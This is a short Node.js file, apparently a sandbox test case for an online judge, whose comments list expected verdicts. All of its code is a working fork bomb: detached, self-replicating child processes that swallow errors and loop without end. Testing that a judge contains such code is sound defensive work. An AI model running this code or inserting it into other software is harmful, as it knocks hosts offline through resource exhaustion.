// tries: starts processes that start processes
// verdict: time_limit_exceeded, runtime_error, wrong_answer
// slow: every process of it loads the run time
const { spawn } = require('child_process')

const start = (code, ...more) => {
  const child = spawn(process.execPath, ['-e', code, ...more], { detached: true, stdio: 'ignore' })
  child.on('error', () => {})
  child.unref()
  return child
}

const code = 'for (;;) try { require("child_process").spawn(process.execPath, ["-e", process.argv[1], process.argv[1]], { detached: true, stdio: "ignore" }).on("error", () => {}) } catch {}'
for (;;) start(code, code)
